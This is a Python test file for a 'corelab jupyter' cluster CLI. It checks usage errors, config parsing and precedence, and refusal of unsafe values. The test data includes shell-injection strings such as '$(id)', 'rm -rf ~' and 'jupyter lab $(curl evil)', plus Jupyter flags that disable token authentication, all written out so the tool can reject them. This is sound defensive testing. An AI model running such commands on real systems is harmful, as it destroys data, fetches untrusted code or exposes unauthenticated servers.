"""`corelab jupyter` refusals that need no scheduler: usage errors, values
that try to smuggle shell into the job script or turn off Jupyter's
authentication (refused before anything runs), config files (old names,
located errors, precedence, sbatch's time formats, launch-jlab.sh's
KEY=value lines explained, a problem that stops only the commands using its
key), a missing sbatch. A recording stand-in for sbatch (written below,
clearly a fake) proves that nothing was submitted."""

import os

from checks import check, finish
from clusterlib import Workspace, mode, write_fake

ws = Workspace()
fakebin = ws.path("fakebin")
os.mkdir(fakebin)
marker = ws.path("sbatch-was-called")
# FAKE sbatch for this test only: it records that it ran and submits nothing.
write_fake(os.path.join(fakebin, "sbatch"),
           "#!/bin/sh\n# FAKE sbatch (tests/cluster/test_cli.py): records the call, submits nothing\n"
           "echo \"$@\" >> '%s'\necho 99\n" % marker)
path_with_fake = fakebin + ":" + os.environ.get("PATH", "/usr/bin:/bin")


def one_line(s):
    return len(s.strip().splitlines()) == 1


# ---- help and usage ----
r = ws.corelab("jupyter", "--help")
check(r.returncode == 0 and "corelab jupyter start" in r.stdout, "jupyter --help")
for sub in ("start", "status", "stop", "script", "list"):
    r = ws.corelab("jupyter", sub, "--help")
    check(r.returncode == 0 and "usage:" in r.stdout, "jupyter %s --help" % sub)
for args, what in [((), "no subcommand"), (("launch",), "unknown subcommand"),
                   (("start", "--partiton", "x"), "unknown option"), (("start", "--cpus"), "missing value"),
                   (("status", "12", "13"), "two job ids"), (("status", "--wait"), "--wait on status"),
                   (("start", "--yes"), "--yes on start"), (("stop", "12;id"), "bad job id")]:
    r = ws.corelab("jupyter", *args)
    check(r.returncode == 2 and one_line(r.stderr) and r.stdout == "",
          "usage error exits 2 with one line: " + what, r.stderr)

# ---- injection in every field: refused before anything runs ----
attacks = [";id", "$(id)", "`id`", "\nid", "'x'", '"x"']
fields = {
    "--partition": "edu", "--module": "python/3", "--account": "acct", "--time": "01:00:00",
    "--mem": "4G", "--cpus": "2", "--command": "jupyter lab", "--sessions-dir": "logs",
    "--login-host": "login", "--scheduler": "slurm",
}
for flag, good in fields.items():
    for attack in attacks:
        r = ws.corelab("jupyter", "start", flag, good + attack, env={"PATH": path_with_fake})
        check(r.returncode == 2 and one_line(r.stderr) and flag in r.stderr and "not" in r.stderr,
              "start %s %r refused (exit 2, one line)" % (flag, good + attack), r.stderr)
check(not os.path.exists(marker), "nothing was submitted for any refused value")
check(not os.path.exists(ws.path("session_logs")) and not os.path.exists(ws.path("logs")),
      "no sessions directory made for refused values")
r = ws.corelab("jupyter", "start", "--command", "jupyter lab; rm -rf ~", env={"PATH": path_with_fake})
check("';'" in r.stderr and "allowed" in r.stderr, "the message names the character and what is allowed", r.stderr)

# the same from a config file: file:line:col
ws.user_config("partition: edu\ncommand: \"jupyter lab $(curl evil)\"\n")
r = ws.corelab("jupyter", "start", env={"PATH": path_with_fake})
cfg = os.path.join(ws.config_dir, "corelab", "config.yaml")
check(r.returncode == 2 and r.stderr.startswith("corelab jupyter: " + cfg + ":2:10:") and "'$'" in r.stderr,
      "config value refused with its location", r.stderr)
ws.user_config("PART: edu\nTAKS: 4\n")
r = ws.corelab("jupyter", "script")
check(r.returncode == 2 and (cfg + ":2:1: unknown key 'TAKS'") in r.stderr, "typo in config refused with location", r.stderr)
check(not os.path.exists(marker), "still nothing submitted")

# a typo or a bad value blocks only the commands that use the key: stop and
# status warn and go on (a running job can always be stopped)
ws.user_config("PART: edu\nTAKS: 4\ncpus: 4000\n")
for sub in ("stop", "status"):
    r = ws.corelab("jupyter", sub, "--yes" if sub == "stop" else "12", env={"PATH": path_with_fake})
    check(r.returncode != 2 and ("warning: " + cfg + ":2:1: unknown key 'TAKS' (did you mean TASKS?)") in r.stderr
          and "cpus '4000'" in r.stderr and ("%s does not use it; going on" % sub) in r.stderr,
          "%s warns about the config's problems and goes on" % sub, r.stdout + r.stderr)
r = ws.corelab("jupyter", "start", env={"PATH": path_with_fake})
check(r.returncode == 2 and "cpus '4000'" in r.stderr, "start stops on them (exit 2)", r.stderr)
r = ws.corelab("jupyter", "script", "--cpus", "2")
check(r.returncode == 2 and "TAKS" in r.stderr and "cpus '4000'" not in r.stderr,
      "a flag's value replaces the file's bad one; the typo still stops script", r.stderr)
# launch-jlab.sh's lines, copied as they were
ws.user_config("PART=broadwl\nTIME=01:00:00\n")
r = ws.corelab("jupyter", "script")
check(r.returncode == 2 and (cfg + ":1:1: 'PART=broadwl' is shell syntax") in r.stderr
      and "write it as 'PART: broadwl'" in r.stderr, "a KEY=value line is explained", r.stderr)
# every time format sbatch takes
ws.user_config("")
for t in ("90", "30:00", "2:00:00", "1-12", "1-02:30", "1-02:30:00"):
    r = ws.corelab("jupyter", "script", "--time", t)
    check(r.returncode == 0 and ("#SBATCH --time=%s\n" % t) in r.stdout, "--time %s is taken as sbatch takes it" % t,
          r.stderr)
r = ws.corelab("jupyter", "script", "--time", "01:60:00")
check(r.returncode == 2 and "MM, MM:SS, HH:MM:SS, D-HH, D-HH:MM or D-HH:MM:SS" in r.stderr,
      "a time sbatch would not take names the forms it would", r.stderr)
# what would turn off Jupyter's authentication, or a login host ssh cannot use
for bad in ("jupyter lab --ServerApp.token=", "jupyter notebook --NotebookApp.token=",
            "jupyter lab --ServerApp.password=x", "jupyter lab --ip=0.0.0.0"):
    r = ws.corelab("jupyter", "start", "--command", bad, env={"PATH": path_with_fake})
    check(r.returncode == 2 and one_line(r.stderr) and "--command" in r.stderr, "start --command %r refused" % bad,
          r.stderr)
for bad in ("host@", "a@b@c", "@host"):
    r = ws.corelab("jupyter", "start", "--login-host", bad, env={"PATH": path_with_fake})
    check(r.returncode == 2 and "login_host" in r.stderr, "--login-host %s refused" % bad, r.stderr)
check(not os.path.exists(marker), "nothing submitted for any of them")

# ---- precedence: flags > user > site > defaults; old names honoured ----
ws.site_config("scheduler: slurm\nPART: broadwl\nPYTHON_MODULE: Anaconda3/5.0.1\nlogin_host: midway.example.edu\n"
               "TIME: \"01:00:00\"\n")
ws.user_config("TASKS: 4\npartition: edu\n")
r = ws.corelab("jupyter", "script", "--time", "00:30:00")
s = r.stdout
check(r.returncode == 0 and s.startswith("#!/bin/bash -l\n"), "script prints a bash -l script")
check("#SBATCH --partition=edu\n" in s, "user config overrides the site's partition")
check("#SBATCH --cpus-per-task=4\n" in s, "TASKS sets cpus")
check("#SBATCH --time=00:30:00\n" in s, "a flag overrides the site's TIME")
check("module load 'Anaconda3/5.0.1'\n" in s, "PYTHON_MODULE becomes a module load")
check("--output=" + ws.path("session_logs") + "/nb_session_%j.log" in s, "log path in session_logs/")
check("port_retries=0" in s and "JUPYTER_TOKEN" in s and "token=" not in s, "port_retries=0, token by environment")
check(not os.path.exists(ws.path("session_logs")), "script creates nothing")
r = ws.corelab("jupyter", "script", "--scheduler", "pbs")
check("#PBS -q edu\n" in r.stdout and "#PBS -l select=1:ncpus=4\n" in r.stdout, "PBS script from the same settings")
ws.user_config("")
ws.site_config("")

# ---- sbatch missing ----
empty = ws.path("emptybin")
os.mkdir(empty)
r = ws.corelab("jupyter", "start", "--partition", "edu", env={"PATH": empty})
check(r.returncode == 1 and "sbatch not found on PATH" in r.stderr and one_line(r.stderr),
      "sbatch missing from PATH gives a clear message", r.stderr)
check(mode(ws.path("session_logs")) == 0o700, "session_logs is 0700")

# ---- nothing recorded ----
r = ws.corelab("jupyter", "status")
check(r.returncode == 1 and "no session recorded" in r.stderr, "status with no session says so", r.stderr)
r = ws.corelab("jupyter", "stop", "--yes")
check(r.returncode == 1 and "no session recorded" in r.stderr, "stop with no session says so", r.stderr)

# ---- submitted but not recorded: the job's id, and one warning on stderr ----
warnbin = ws.path("warnbin")
os.mkdir(warnbin)
# FAKE sbatch and squeue for this check: a job id, and no job in the queue
write_fake(os.path.join(warnbin, "sbatch"), "#!/bin/sh\n# FAKE sbatch (tests/cluster/test_cli.py)\necho 4242\n")
write_fake(os.path.join(warnbin, "squeue"), "#!/bin/sh\n# FAKE squeue (tests/cluster/test_cli.py)\nexit 0\n")
os.mkdir(ws.path("session_logs", "current.session"))  # where the state file belongs
r = ws.corelab("jupyter", "start", "--partition", "edu", env={"PATH": warnbin + ":" + path_with_fake})
check(r.returncode == 0 and "Submitted job 4242;" in r.stdout, "start submits although it cannot record the job",
      r.stdout + r.stderr)
check(one_line(r.stderr) and r.stderr.startswith("corelab: warning: cannot record job 4242 in " + ws.path("session_logs")),
      "the CLI prints the warning start returned, once", r.stderr)

finish()
